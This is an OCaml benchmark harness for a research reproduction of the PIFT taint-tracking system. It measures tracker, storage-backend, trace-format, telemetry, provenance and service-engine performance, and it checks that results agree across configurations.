(* Benchmark harness.

   Part 1 — Bechamel microbenchmarks of the core machinery: range-set
   operations, the PIFT tracker's per-event cost vs. the full-DIFT
   baseline (the paper's "loads and stores are an order of magnitude less
   frequent" argument in cost form), the hardware range-cache lookup, and
   the simulated CPU itself.

   Part 2 — the full reproduction: every table and figure of the paper's
   evaluation section, printed via Pift_eval.Experiments.  This is what
   bench_output.txt is made of. *)

open Bechamel
open Toolkit
module Range = Pift_util.Range
module Rng = Pift_util.Rng
module Range_set = Pift_core.Range_set
module Tracker = Pift_core.Tracker
module Policy = Pift_core.Policy
module Storage = Pift_core.Storage
module Full_dift = Pift_baseline.Full_dift
module Trace = Pift_trace.Trace
module Recorded = Pift_eval.Recorded

(* --- fixtures ---------------------------------------------------------- *)

let random_ranges n =
  let rng = Rng.create 42 in
  Array.init n (fun _ ->
      Range.of_len (Rng.int rng 0x10000 * 4) (1 + Rng.int rng 64))

let bench_trace =
  lazy
    (Recorded.record
       (Pift_workloads.Malware.lgroot_sized ~rounds:2 ~payload_chars:256))

let event_slice n =
  let r = Lazy.force bench_trace in
  let len = min n (Trace.length r.Recorded.trace) in
  Array.init len (fun i -> Trace.get r.Recorded.trace i)

(* --- microbenchmarks --------------------------------------------------- *)

let test_range_set_add =
  let ranges = random_ranges 512 in
  Test.make ~name:"range_set/add-512"
    (Staged.stage (fun () ->
         ignore
           (Array.fold_left (fun s r -> Range_set.add s r) Range_set.empty
              ranges)))

let test_range_set_query =
  let ranges = random_ranges 512 in
  let set = Array.fold_left Range_set.add Range_set.empty ranges in
  let queries = random_ranges 512 in
  Test.make ~name:"range_set/query-512"
    (Staged.stage (fun () ->
         let hits = ref 0 in
         Array.iter
           (fun q -> if Range_set.mem_overlap set q then incr hits)
           queries;
         ignore !hits))

let test_store_flat_add =
  let ranges = random_ranges 512 in
  Test.make ~name:"store_flat/add-512"
    (Staged.stage (fun () ->
         let s = Pift_core.Store_flat.create () in
         Array.iter (Pift_core.Store_flat.add s) ranges))

let test_store_flat_query =
  let ranges = random_ranges 512 in
  let set = Pift_core.Store_flat.create () in
  Array.iter (Pift_core.Store_flat.add set) ranges;
  let queries = random_ranges 512 in
  Test.make ~name:"store_flat/query-512"
    (Staged.stage (fun () ->
         let hits = ref 0 in
         Array.iter
           (fun q -> if Pift_core.Store_flat.mem_overlap set q then incr hits)
           queries;
         ignore !hits))

let tracker_events = lazy (event_slice 20_000)

let test_tracker_observe =
  Test.make ~name:"tracker/observe-20k-events"
    (Staged.stage (fun () ->
         let events = Lazy.force tracker_events in
         let t = Tracker.create ~policy:Policy.default () in
         Tracker.taint_source t ~pid:1 (Range.of_len 0x4000_0000 32);
         Array.iter (Tracker.observe t) events))

(* Same workload with a live metrics registry — the gap between this and
   tracker/observe-20k-events is the cost of observation, and the no-op
   path above must not regress when lib/obs changes. *)
let test_tracker_observe_metrics =
  Test.make ~name:"tracker/observe-20k-events-metrics"
    (Staged.stage (fun () ->
         let events = Lazy.force tracker_events in
         let registry = Pift_obs.Registry.create () in
         let t = Tracker.create ~policy:Policy.default ~metrics:registry () in
         Tracker.taint_source t ~pid:1 (Range.of_len 0x4000_0000 32);
         Array.iter (Tracker.observe t) events))

let test_dift_observe =
  Test.make ~name:"full_dift/observe-20k-events"
    (Staged.stage (fun () ->
         let events = Lazy.force tracker_events in
         let t = Full_dift.create () in
         Full_dift.taint_source t ~pid:1 (Range.of_len 0x4000_0000 32);
         Array.iter (Full_dift.observe t) events))

let test_storage_lookup =
  let storage = Storage.create ~entries:2730 () in
  let rng = Rng.create 7 in
  for _ = 1 to 2000 do
    Storage.insert storage ~pid:1
      (Range.of_len (Rng.int rng 0x10000 * 8) (1 + Rng.int rng 32))
  done;
  let queries = random_ranges 128 in
  Test.make ~name:"storage/lookup-128@2000-entries"
    (Staged.stage (fun () ->
         Array.iter
           (fun q -> ignore (Storage.lookup storage ~pid:1 q))
           queries))

let test_cpu_copy =
  Test.make ~name:"cpu/char_copy-256"
    (Staged.stage (fun () ->
         let mem = Pift_machine.Memory.create () in
         let cpu = Pift_machine.Cpu.create ~sink:(fun _ -> ()) mem in
         Pift_runtime.Intrinsics.char_copy cpu ~dst:0x5000_0000
           ~src:0x4000_0000 ~chars:256))

let test_provenance_observe =
  Test.make ~name:"provenance/observe-20k-events-3-labels"
    (Staged.stage (fun () ->
         let events = Lazy.force tracker_events in
         let t = Pift_core.Provenance.create ~policy:Policy.default () in
         Pift_core.Provenance.taint_source t ~pid:1 ~label:"IMEI"
           (Range.of_len 0x4000_0000 32);
         Pift_core.Provenance.taint_source t ~pid:1 ~label:"GPS"
           (Range.of_len 0x4000_0100 8);
         Pift_core.Provenance.taint_source t ~pid:1 ~label:"Phone"
           (Range.of_len 0x4000_0200 22);
         Array.iter (Pift_core.Provenance.observe t) events))

let test_trace_io =
  Test.make ~name:"trace_io/save+load-small-app"
    (Staged.stage
       (let recorded =
          lazy
            (Recorded.record
               (Option.get (Pift_workloads.Droidbench.find "StringConcat1")))
        in
        fun () ->
          let r = Lazy.force recorded in
          let path = Filename.temp_file "pift_bench" ".trace" in
          Pift_eval.Trace_io.save r path;
          let loaded = Pift_eval.Trace_io.load path in
          Sys.remove path;
          ignore (Trace.length loaded.Recorded.trace)))

let tests =
  [
    test_range_set_add;
    test_range_set_query;
    test_store_flat_add;
    test_store_flat_query;
    test_tracker_observe;
    test_tracker_observe_metrics;
    test_dift_observe;
    test_provenance_observe;
    test_storage_lookup;
    test_cpu_copy;
    test_trace_io;
  ]

let run_microbenchmarks () =
  print_endline "######## microbenchmarks ########";
  let instances = Instance.[ monotonic_clock ] in
  let cfg =
    Benchmark.cfg ~limit:2000 ~quota:(Time.second 0.5) ~kde:(Some 1000) ()
  in
  let ols =
    Analyze.ols ~bootstrap:0 ~r_square:true ~predictors:[| Measure.run |]
  in
  List.iter
    (fun test ->
      let results = Benchmark.all cfg instances test in
      let analysed = Analyze.all ols Instance.monotonic_clock results in
      Hashtbl.iter
        (fun name ols_result ->
          match Analyze.OLS.estimates ols_result with
          | Some [ est ] -> Printf.printf "%-36s %12.1f ns/run\n%!" name est
          | Some _ | None -> Printf.printf "%-36s (no estimate)\n%!" name)
        analysed)
    tests;
  print_newline ()

(* Machine-readable observability snapshot of a reference run, so the
   BENCH_* perf trajectory can be diffed across commits:
   `pift report BENCH_obs.json` renders it. *)
let write_obs_snapshot () =
  let module Obs = Pift_obs in
  Obs.Span.reset ();
  let registry = Obs.Registry.create () in
  let recorded =
    Obs.Span.with_ ~name:"record" (fun () ->
        Recorded.record ~metrics:registry
          (Pift_workloads.Malware.lgroot_sized ~rounds:2 ~payload_chars:256))
  in
  let _replay =
    Obs.Span.with_ ~name:"replay" (fun () ->
        Recorded.replay ~policy:Policy.default ~metrics:registry recorded)
  in
  Obs.Span.with_ ~name:"hw-model" (fun () ->
      let storage = Storage.create ~metrics:registry () in
      ignore
        (Recorded.replay
           ~store:(Pift_core.Store.of_storage storage)
           ~policy:Policy.default recorded);
      let st = Storage.stats storage in
      let trace = recorded.Recorded.trace in
      Pift_core.Hw_model.observe ~metrics:registry
        (Pift_core.Hw_model.estimate ~total_insns:(Trace.length trace)
           ~loads:(Trace.loads trace) ~stores:(Trace.stores trace)
           ~secondary_hits:st.Storage.secondary_hits ()));
  let oc = open_out "BENCH_obs.json" in
  Obs.Sink.write_jsonl oc
    (Obs.Sink.snapshot_to_json ~run:"bench:lgroot-2x256"
       ~spans:(Obs.Span.roots ())
       (Obs.Registry.snapshot registry));
  close_out oc;
  print_endline "wrote BENCH_obs.json"

(* Serial vs parallel Fig. 11 sweep: the same grid replayed at jobs=1
   and jobs=4, wall-clocked, with the cell lists compared so the
   speedup never comes at the price of a divergent result.  Emitted as
   BENCH_par.json for the cross-commit perf trajectory.  On a
   single-core container the honest speedup is ~1x — the json carries
   [domains_available] so readers can tell "no parallel hardware" from
   "regression". *)
let write_par_bench () =
  let module Json = Pift_obs.Json in
  let module Accuracy = Pift_eval.Accuracy in
  let apps = Pift_workloads.Droidbench.subset48 in
  let nis = Accuracy.default_nis and nts = Pift_eval.Accuracy.default_nts in
  let time f =
    let t0 = Unix.gettimeofday () in
    let v = f () in
    (v, Unix.gettimeofday () -. t0)
  in
  let parallel_jobs = 4 in
  let serial, serial_s =
    time (fun () -> Accuracy.sweep ~nis ~nts ~jobs:1 apps)
  in
  let parallel, parallel_s =
    time (fun () -> Accuracy.sweep ~nis ~nts ~jobs:parallel_jobs apps)
  in
  let identical = serial.Accuracy.cells = parallel.Accuracy.cells in
  let json =
    Json.Obj
      [
        ("bench", Json.String "fig11-sweep");
        ("apps", Json.Int (List.length apps));
        ("grid_cells", Json.Int (List.length nis * List.length nts));
        ("domains_available", Json.Int (Pift_par.Pool.default_jobs ()));
        ("serial_seconds", Json.Float serial_s);
        ("parallel_jobs", Json.Int parallel_jobs);
        ("parallel_seconds", Json.Float parallel_s);
        ( "speedup",
          Json.Float (if parallel_s > 0. then serial_s /. parallel_s else 0.)
        );
        ("identical_cells", Json.Bool identical);
      ]
  in
  let oc = open_out "BENCH_par.json" in
  output_string oc (Json.to_string json);
  output_char oc '\n';
  close_out oc;
  Printf.printf "wrote BENCH_par.json (serial %.2fs, %d-domain %.2fs, %s)\n"
    serial_s parallel_jobs parallel_s
    (if identical then "cells identical" else "CELLS DIVERGED");
  if not identical then exit 1

(* Tracker throughput with the flight recorder off vs on, over the same
   replayed event stream: events/sec both ways and the recorder's
   percentage cost.  The recorder's budget is "allocation-light ring
   writes"; this stage is the cross-commit guard that keeps it there
   (BENCH_trace.json, acceptance bar: < 10% overhead). *)
let write_trace_bench () =
  let module Json = Pift_obs.Json in
  let recorded = Lazy.force bench_trace in
  let events =
    Array.init (Trace.length recorded.Recorded.trace) (fun i ->
        Trace.get recorded.Recorded.trace i)
  in
  let replay ?flight () =
    let t = Tracker.create ~policy:Policy.default ?flight () in
    Tracker.taint_source t ~pid:1 (Range.of_len 0x4000_0000 32);
    Array.iter (Tracker.observe t) events
  in
  let time f =
    let t0 = Unix.gettimeofday () in
    f ();
    Unix.gettimeofday () -. t0
  in
  let rounds = 5 in
  let best f =
    let b = ref infinity in
    for _ = 1 to rounds do
      let s = time f in
      if s < !b then b := s
    done;
    !b
  in
  ignore (time (fun () -> replay ()));
  (* warm-up *)
  let off_s = best (fun () -> replay ()) in
  let ring = Pift_obs.Flight.create () in
  let on_s =
    best (fun () ->
        Pift_obs.Flight.clear ring;
        replay ~flight:ring ())
  in
  let n = Array.length events in
  let rate s = if s > 0. then float_of_int n /. s else 0. in
  let overhead_pct =
    if off_s > 0. then 100. *. (on_s -. off_s) /. off_s else 0.
  in
  let json =
    Json.Obj
      [
        ("bench", Json.String "tracker-flight-recorder");
        ("events", Json.Int n);
        ("rounds", Json.Int rounds);
        ("recorder_off_seconds", Json.Float off_s);
        ("recorder_on_seconds", Json.Float on_s);
        ("recorder_off_events_per_sec", Json.Float (rate off_s));
        ("recorder_on_events_per_sec", Json.Float (rate on_s));
        ("recorder_events_written", Json.Int (Pift_obs.Flight.written ring));
        ("overhead_pct", Json.Float overhead_pct);
      ]
  in
  let oc = open_out "BENCH_trace.json" in
  output_string oc (Json.to_string json);
  output_char oc '\n';
  close_out oc;
  Printf.printf
    "wrote BENCH_trace.json (recorder off %.0f ev/s, on %.0f ev/s, %.1f%% \
     overhead)\n"
    (rate off_s) (rate on_s) overhead_pct

(* Functional vs flat vs hybrid taint-store backend on two
   representative loads: the tracker replay over the reference event
   stream (best-of-5, the hot single-replay path) and a 4-domain
   Fig. 11 subset sweep (the bulk path).  The sweeps' cell lists are
   compared — a backend that is fast but wrong must fail the bench, not
   ship a number (BENCH_store.json). *)
let write_store_bench () =
  let module Json = Pift_obs.Json in
  let module Store = Pift_core.Store in
  let module Accuracy = Pift_eval.Accuracy in
  let recorded = Lazy.force bench_trace in
  let events =
    Array.init (Trace.length recorded.Recorded.trace) (fun i ->
        Trace.get recorded.Recorded.trace i)
  in
  let replay backend () =
    let t =
      Tracker.create ~policy:Policy.default ~store:(Store.create ~backend ())
        ()
    in
    Tracker.taint_source t ~pid:1 (Range.of_len 0x4000_0000 32);
    Array.iter (Tracker.observe t) events
  in
  let time f =
    let t0 = Unix.gettimeofday () in
    f ();
    Unix.gettimeofday () -. t0
  in
  let rounds = 5 in
  let best f =
    ignore (time f);
    (* warm-up *)
    let b = ref infinity in
    for _ = 1 to rounds do
      let s = time f in
      if s < !b then b := s
    done;
    !b
  in
  let functional_replay_s = best (replay Store.Functional) in
  let flat_replay_s = best (replay Store.Flat) in
  let hybrid_replay_s = best (replay Store.Hybrid) in
  (* Fragmented-dense single-set workload — the hybrid backend's home
     turf: stride-2 taint leaves one interval per other byte, so flat
     pays an O(#intervals) memmove per op while promoted bit-pages flip
     bits.  The replay above is its worst case (sparse, never
     promotes); report both so the trade is visible. *)
  let fragmented_window = 32768 in
  let fragmented_mixed_ops = 50_000 in
  let fragmented backend () =
    let module SB = Pift_core.Store_backend in
    let s = SB.make backend in
    let i = ref 0 in
    while !i < fragmented_window do
      s.SB.s_add (Range.of_len (0x4000_0000 + !i) 1);
      i := !i + 2
    done;
    let rng = Rng.create 99 in
    for _ = 1 to fragmented_mixed_ops do
      let r = Range.of_len (0x4000_0000 + Rng.int rng fragmented_window) 1 in
      match Rng.int rng 3 with
      | 0 -> s.SB.s_add r
      | 1 -> s.SB.s_remove r
      | _ -> ignore (s.SB.s_overlaps r)
    done;
    ignore (s.SB.s_count ())
  in
  let functional_frag_s = best (fragmented Store.Functional) in
  let flat_frag_s = best (fragmented Store.Flat) in
  let hybrid_frag_s = best (fragmented Store.Hybrid) in
  let apps = Pift_workloads.Droidbench.subset48 in
  let sweep backend =
    let t0 = Unix.gettimeofday () in
    let s = Accuracy.sweep ~backend ~jobs:4 apps in
    (s, Unix.gettimeofday () -. t0)
  in
  let functional_sweep, functional_sweep_s = sweep Store.Functional in
  let flat_sweep, flat_sweep_s = sweep Store.Flat in
  let hybrid_sweep, hybrid_sweep_s = sweep Store.Hybrid in
  let identical =
    functional_sweep.Accuracy.cells = flat_sweep.Accuracy.cells
    && functional_sweep.Accuracy.cells = hybrid_sweep.Accuracy.cells
  in
  let n = Array.length events in
  let rate s = if s > 0. then float_of_int n /. s else 0. in
  let ratio a b = if b > 0. then a /. b else 0. in
  let json =
    Json.Obj
      [
        ("bench", Json.String "taint-store-backends");
        ("events", Json.Int n);
        ("rounds", Json.Int rounds);
        ("functional_replay_seconds", Json.Float functional_replay_s);
        ("flat_replay_seconds", Json.Float flat_replay_s);
        ( "functional_replay_events_per_sec",
          Json.Float (rate functional_replay_s) );
        ("flat_replay_events_per_sec", Json.Float (rate flat_replay_s));
        ("hybrid_replay_seconds", Json.Float hybrid_replay_s);
        ("hybrid_replay_events_per_sec", Json.Float (rate hybrid_replay_s));
        ( "replay_speedup_flat_over_functional",
          Json.Float (ratio functional_replay_s flat_replay_s) );
        ( "replay_speedup_hybrid_over_functional",
          Json.Float (ratio functional_replay_s hybrid_replay_s) );
        ( "fragmented_ops",
          Json.Int ((fragmented_window / 2) + fragmented_mixed_ops) );
        ("functional_fragmented_seconds", Json.Float functional_frag_s);
        ("flat_fragmented_seconds", Json.Float flat_frag_s);
        ("hybrid_fragmented_seconds", Json.Float hybrid_frag_s);
        ( "fragmented_speedup_hybrid_over_flat",
          Json.Float (ratio flat_frag_s hybrid_frag_s) );
        ( "fragmented_speedup_hybrid_over_functional",
          Json.Float (ratio functional_frag_s hybrid_frag_s) );
        ("sweep_apps", Json.Int (List.length apps));
        ("sweep_jobs", Json.Int 4);
        ("functional_sweep_seconds", Json.Float functional_sweep_s);
        ("flat_sweep_seconds", Json.Float flat_sweep_s);
        ("hybrid_sweep_seconds", Json.Float hybrid_sweep_s);
        ( "sweep_speedup_flat_over_functional",
          Json.Float (ratio functional_sweep_s flat_sweep_s) );
        ( "sweep_speedup_hybrid_over_functional",
          Json.Float (ratio functional_sweep_s hybrid_sweep_s) );
        ("identical_cells", Json.Bool identical);
      ]
  in
  let oc = open_out "BENCH_store.json" in
  output_string oc (Json.to_string json);
  output_char oc '\n';
  close_out oc;
  Printf.printf
    "wrote BENCH_store.json (replay: functional %.0f ev/s, flat %.0f ev/s, \
     hybrid %.0f ev/s; fragmented: hybrid %.1fx over flat; sweep: \
     functional %.2fs, flat %.2fs, hybrid %.2fs, %s)\n"
    (rate functional_replay_s) (rate flat_replay_s) (rate hybrid_replay_s)
    (ratio flat_frag_s hybrid_frag_s) functional_sweep_s flat_sweep_s
    hybrid_sweep_s
    (if identical then "cells identical" else "CELLS DIVERGED");
  if not identical then exit 1

(* Text vs binary trace format on the reference recording: file size,
   load alone, and load+replay throughput, best-of-5 each.  The binary
   replay's verdicts and stats are compared against the text replay's —
   a format that decodes fast but decodes wrong must fail the bench,
   not ship a number (BENCH_traceio.json). *)
let write_traceio_bench () =
  let module Json = Pift_obs.Json in
  let module Trace_io = Pift_eval.Trace_io in
  let recorded = Lazy.force bench_trace in
  let text_path = Filename.temp_file "pift_bench_text" ".trace" in
  let binary_path = Filename.temp_file "pift_bench_bin" ".trace" in
  Trace_io.save ~format:Trace_io.Text recorded text_path;
  Trace_io.save ~format:Trace_io.Binary recorded binary_path;
  let text_bytes = (Unix.stat text_path).Unix.st_size in
  let binary_bytes = (Unix.stat binary_path).Unix.st_size in
  let time f =
    let t0 = Unix.gettimeofday () in
    let v = f () in
    (v, Unix.gettimeofday () -. t0)
  in
  let rounds = 9 in
  let best f =
    Gc.full_major ();
    ignore (time f);
    (* warm-up *)
    let b = ref infinity and last = ref None in
    for _ = 1 to rounds do
      let v, s = time f in
      last := Some v;
      if s < !b then b := s
    done;
    (Option.get !last, !b)
  in
  let load path () = Trace_io.load path in
  (* Replay on the flat backend: the replay leg is a shared constant in
     both columns, so the fastest store keeps the comparison about the
     formats. *)
  let load_replay path () =
    Recorded.replay ~policy:Policy.default
      ~store:(Pift_core.Store.create ~backend:Pift_core.Store.Flat ())
      (Trace_io.load path)
  in
  let _, text_load_s = best (load text_path) in
  let _, binary_load_s = best (load binary_path) in
  let text_replay, text_lr_s = best (load_replay text_path) in
  let binary_replay, binary_lr_s = best (load_replay binary_path) in
  Sys.remove text_path;
  Sys.remove binary_path;
  let identical =
    text_replay.Recorded.verdicts = binary_replay.Recorded.verdicts
    && text_replay.Recorded.flagged = binary_replay.Recorded.flagged
    && text_replay.Recorded.stats = binary_replay.Recorded.stats
  in
  let n = Trace.length recorded.Recorded.trace in
  let rate s = if s > 0. then float_of_int n /. s else 0. in
  let ratio a b = if b > 0. then a /. b else 0. in
  let json =
    Json.Obj
      [
        ("bench", Json.String "trace-io-formats");
        ("events", Json.Int n);
        ("markers", Json.Int (Array.length recorded.Recorded.markers));
        ("rounds", Json.Int rounds);
        ("text_bytes", Json.Int text_bytes);
        ("binary_bytes", Json.Int binary_bytes);
        ( "size_ratio_text_over_binary",
          Json.Float (ratio (float_of_int text_bytes) (float_of_int binary_bytes))
        );
        ("text_load_seconds", Json.Float text_load_s);
        ("binary_load_seconds", Json.Float binary_load_s);
        ("text_load_events_per_sec", Json.Float (rate text_load_s));
        ("binary_load_events_per_sec", Json.Float (rate binary_load_s));
        ( "load_speedup_binary_over_text",
          Json.Float (ratio text_load_s binary_load_s) );
        ("text_load_replay_seconds", Json.Float text_lr_s);
        ("binary_load_replay_seconds", Json.Float binary_lr_s);
        ("text_load_replay_events_per_sec", Json.Float (rate text_lr_s));
        ("binary_load_replay_events_per_sec", Json.Float (rate binary_lr_s));
        ( "load_replay_speedup_binary_over_text",
          Json.Float (ratio text_lr_s binary_lr_s) );
        ("identical_verdicts", Json.Bool identical);
      ]
  in
  let oc = open_out "BENCH_traceio.json" in
  output_string oc (Json.to_string json);
  output_char oc '\n';
  close_out oc;
  Printf.printf
    "wrote BENCH_traceio.json (%d events; size %.1fx smaller; load: text \
     %.0f ev/s, binary %.0f ev/s, %.2fx; load+replay %.2fx, %s)\n"
    n
    (ratio (float_of_int text_bytes) (float_of_int binary_bytes))
    (rate text_load_s) (rate binary_load_s)
    (ratio text_load_s binary_load_s)
    (ratio text_lr_s binary_lr_s)
    (if identical then "verdicts identical" else "VERDICTS DIVERGED");
  if not identical then exit 1

(* Tracker replay with continuous telemetry and with the
   overhead-attribution profiler, each off vs on, over the same event
   stream (best-of-5).  Telemetry's per-event budget is an increment
   and a compare (snapshots amortised over --telemetry-every events);
   the profiler's is two clock reads per region.  Emitted as
   BENCH_telemetry.json for the cross-commit trajectory and the
   `report --diff` CI gate. *)
let write_telemetry_bench () =
  let module Json = Pift_obs.Json in
  let recorded = Lazy.force bench_trace in
  let events =
    Array.init (Trace.length recorded.Recorded.trace) (fun i ->
        Trace.get recorded.Recorded.trace i)
  in
  let replay ?telemetry ?profile () =
    let t = Tracker.create ~policy:Policy.default ?telemetry ?profile () in
    Tracker.taint_source t ~pid:1 (Range.of_len 0x4000_0000 32);
    Array.iter (Tracker.observe t) events
  in
  let time f =
    let t0 = Unix.gettimeofday () in
    f ();
    Unix.gettimeofday () -. t0
  in
  let rounds = 5 in
  let best f =
    ignore (time f);
    (* warm-up *)
    let b = ref infinity in
    for _ = 1 to rounds do
      let s = time f in
      if s < !b then b := s
    done;
    !b
  in
  let off_s = best (fun () -> replay ()) in
  let telem = Pift_obs.Telemetry.create () in
  let telem_s =
    best (fun () ->
        Pift_obs.Telemetry.clear telem;
        replay ~telemetry:telem ())
  in
  let profile = Pift_obs.Profile.create () in
  let prof_s =
    best (fun () ->
        Pift_obs.Profile.reset profile;
        replay ~profile ())
  in
  let n = Array.length events in
  let rate s = if s > 0. then float_of_int n /. s else 0. in
  let pct on = if off_s > 0. then 100. *. (on -. off_s) /. off_s else 0. in
  let json =
    Json.Obj
      [
        ("bench", Json.String "tracker-telemetry-profiler");
        ("events", Json.Int n);
        ("rounds", Json.Int rounds);
        ("off_seconds", Json.Float off_s);
        ("off_events_per_sec", Json.Float (rate off_s));
        ("telemetry_on_seconds", Json.Float telem_s);
        ("telemetry_on_events_per_sec", Json.Float (rate telem_s));
        ("telemetry_overhead_pct", Json.Float (pct telem_s));
        ("telemetry_snapshots", Json.Int (Pift_obs.Telemetry.taken telem));
        ("profiler_on_seconds", Json.Float prof_s);
        ("profiler_on_events_per_sec", Json.Float (rate prof_s));
        ("profiler_overhead_pct", Json.Float (pct prof_s));
        ( "profiler_regions",
          Json.Int (List.length (Pift_obs.Profile.folded profile)) );
      ]
  in
  let oc = open_out "BENCH_telemetry.json" in
  output_string oc (Json.to_string json);
  output_char oc '\n';
  close_out oc;
  Printf.printf
    "wrote BENCH_telemetry.json (off %.0f ev/s; telemetry %.0f ev/s, %.1f%%; \
     profiler %.0f ev/s, %.1f%%)\n"
    (rate off_s) (rate telem_s) (pct telem_s) (rate prof_s) (pct prof_s)

(* Tracker replay with the provenance sidecar off vs on, over the same
   event stream (best-of-5): the sidecar's budget is "option-guarded,
   zero when off; bounded per-label cost when on".  Verdict equality is
   asserted via a flow-graph build whose every path must reach a source
   (the union invariant, checked here on real data, not just in tests).
   Emitted as BENCH_prov.json for the cross-commit trajectory. *)
let write_prov_bench () =
  let module Json = Pift_obs.Json in
  let module Provenance = Pift_core.Provenance in
  let recorded = Lazy.force bench_trace in
  let events =
    Array.init (Trace.length recorded.Recorded.trace) (fun i ->
        Trace.get recorded.Recorded.trace i)
  in
  let sources =
    [
      ("IMEI", Range.of_len 0x4000_0000 32);
      ("Location", Range.of_len 0x4000_0100 8);
      ("Phone", Range.of_len 0x4000_0200 22);
    ]
  in
  let replay ~with_prov () =
    let prov =
      if with_prov then Some (Provenance.create ~policy:Policy.default ())
      else None
    in
    let t = Tracker.create ~policy:Policy.default ?prov () in
    List.iter
      (fun (kind, r) -> Tracker.taint_source ~kind t ~pid:1 r)
      sources;
    Array.iter (Tracker.observe t) events
  in
  let time f =
    let t0 = Unix.gettimeofday () in
    f ();
    Unix.gettimeofday () -. t0
  in
  let rounds = 5 in
  let best f =
    ignore (time f);
    (* warm-up *)
    let b = ref infinity in
    for _ = 1 to rounds do
      let s = time f in
      if s < !b then b := s
    done;
    !b
  in
  let off_s = best (replay ~with_prov:false) in
  let on_s = best (replay ~with_prov:true) in
  (* Graph build on the reference recording: cost of the backward walk
     plus the structural check that every flagged sink reaches a source. *)
  let t0 = Unix.gettimeofday () in
  let g, sinks =
    Pift_eval.Explain.flow_graph ~policy:Policy.default recorded
  in
  let graph_s = Unix.gettimeofday () -. t0 in
  let rooted =
    List.for_all
      (fun (sf : Pift_eval.Explain.sink_flow) ->
        sf.Pift_eval.Explain.sf_paths <> []
        && List.for_all
             (fun (p : Pift_eval.Explain.path) ->
               match p.Pift_eval.Explain.p_nodes with
               | { Provenance.Graph.kind = Provenance.Graph.N_source _; _ }
                 :: _ ->
                   true
               | _ -> false)
             sf.Pift_eval.Explain.sf_paths)
      sinks
  in
  let n = Array.length events in
  let rate s = if s > 0. then float_of_int n /. s else 0. in
  let overhead_pct =
    if off_s > 0. then 100. *. (on_s -. off_s) /. off_s else 0.
  in
  let json =
    Json.Obj
      [
        ("bench", Json.String "tracker-provenance-sidecar");
        ("events", Json.Int n);
        ("rounds", Json.Int rounds);
        ("labels", Json.Int (List.length sources));
        ("prov_off_seconds", Json.Float off_s);
        ("prov_on_seconds", Json.Float on_s);
        ("prov_off_events_per_sec", Json.Float (rate off_s));
        ("prov_on_events_per_sec", Json.Float (rate on_s));
        ("overhead_pct", Json.Float overhead_pct);
        ("graph_build_seconds", Json.Float graph_s);
        ("graph_nodes", Json.Int (Provenance.Graph.node_count g));
        ("graph_edges", Json.Int (Provenance.Graph.edge_count g));
        ("flagged_sinks", Json.Int (List.length sinks));
        ("all_paths_rooted_at_sources", Json.Bool rooted);
      ]
  in
  let oc = open_out "BENCH_prov.json" in
  output_string oc (Json.to_string json);
  output_char oc '\n';
  close_out oc;
  Printf.printf
    "wrote BENCH_prov.json (sidecar off %.0f ev/s, on %.0f ev/s, %.1f%% \
     overhead; graph %d nodes/%d edges in %.2fs, %s)\n"
    (rate off_s) (rate on_s) overhead_pct
    (Provenance.Graph.node_count g)
    (Provenance.Graph.edge_count g)
    graph_s
    (if rooted then "all paths rooted" else "UNROOTED PATH");
  if not rooted then exit 1

(* Service-engine ingest throughput: the same recording replicated as
   32 tenants, interleaved through the engine at shard counts 1/2/4,
   plus a single-tenant run for the per-stream floor.  Per-tenant
   verdicts are gated against isolated replays — the bench fails on a
   correctness divergence, never on speed.  On a single-core container
   multi-shard throughput is honestly ~1x; [domains_available] lets
   readers tell that apart from a regression (BENCH_par precedent). *)
let write_service_bench () =
  let module Json = Pift_obs.Json in
  let module Engine = Pift_service.Engine in
  let module Ingest = Pift_service.Ingest in
  let module Admin = Pift_service.Admin in
  let recorded = Lazy.force bench_trace in
  let policy = Policy.default in
  let tenants = 32 in
  let events_per_tenant = Trace.length recorded.Recorded.trace in
  let isolated = Recorded.replay ~policy recorded in
  let time f =
    let t0 = Unix.gettimeofday () in
    let v = f () in
    (v, Unix.gettimeofday () -. t0)
  in
  let run_engine ~shards ~tenants =
    Engine.with_engine ~shards ~policy (fun eng ->
        let sources =
          List.init tenants (fun i ->
              Ingest.of_recorded ~pid:(Ingest.tenant_pid i) recorded)
        in
        let (), seconds = time (fun () -> Ingest.run eng sources) in
        let identical =
          List.for_all
            (fun i ->
              match Admin.snapshot_tenant eng ~pid:(Ingest.tenant_pid i) with
              | None -> false
              | Some ts ->
                  List.map
                    (fun (v : Admin.verdict) ->
                      (v.Admin.v_kind, v.Admin.v_flagged))
                    ts.Admin.ts_verdicts
                  = List.map
                      (fun (v : Recorded.verdict) ->
                        (v.Recorded.kind, v.Recorded.flagged))
                      isolated.Recorded.verdicts
                  && ts.Admin.ts_stats = isolated.Recorded.stats)
            (List.init tenants Fun.id)
        in
        (seconds, identical))
  in
  let total_events = tenants * events_per_tenant in
  let rate s = if s > 0. then float_of_int total_events /. s else 0. in
  let single_s, single_ok = run_engine ~shards:1 ~tenants:1 in
  let shard_counts = [ 1; 2; 4 ] in
  let multi = List.map (fun s -> (s, run_engine ~shards:s ~tenants)) shard_counts in
  let all_identical =
    single_ok && List.for_all (fun (_, (_, ok)) -> ok) multi
  in
  let json =
    Json.Obj
      [
        ("bench", Json.String "service-ingest");
        ("tenants", Json.Int tenants);
        ("events_per_tenant", Json.Int events_per_tenant);
        ("events_total", Json.Int total_events);
        ("domains_available", Json.Int (Pift_par.Pool.default_jobs ()));
        ( "single_tenant_events_per_sec",
          Json.Float
            (if single_s > 0. then float_of_int events_per_tenant /. single_s
             else 0.) );
        ( "shard_runs",
          Json.List
            (List.map
               (fun (shards, (seconds, _)) ->
                 Json.Obj
                   [
                     ("shards", Json.Int shards);
                     ("seconds", Json.Float seconds);
                     ("events_per_sec", Json.Float (rate seconds));
                   ])
               multi) );
        ("verdicts_identical", Json.Bool all_identical);
      ]
  in
  let oc = open_out "BENCH_service.json" in
  output_string oc (Json.to_string json);
  output_char oc '\n';
  close_out oc;
  List.iter
    (fun (shards, (seconds, _)) ->
      Printf.printf "service: %d shard(s), %d tenants, %.2fs (%.0f ev/s)\n"
        shards tenants seconds (rate seconds))
    multi;
  Printf.printf "wrote BENCH_service.json (%s)\n"
    (if all_identical then "verdicts identical" else "VERDICTS DIVERGED");
  if not all_identical then exit 1

(* Durability cost: snapshot write latency and size, restore (load +
   rebuild) latency, and resume throughput after a mid-stream restore —
   gated on the resumed state matching the uninterrupted run's exactly,
   so the number can never ship with a broken recovery path
   (BENCH_snapshot.json). *)
let write_snapshot_bench () =
  let module Json = Pift_obs.Json in
  let module Engine = Pift_service.Engine in
  let module Ingest = Pift_service.Ingest in
  let module Admin = Pift_service.Admin in
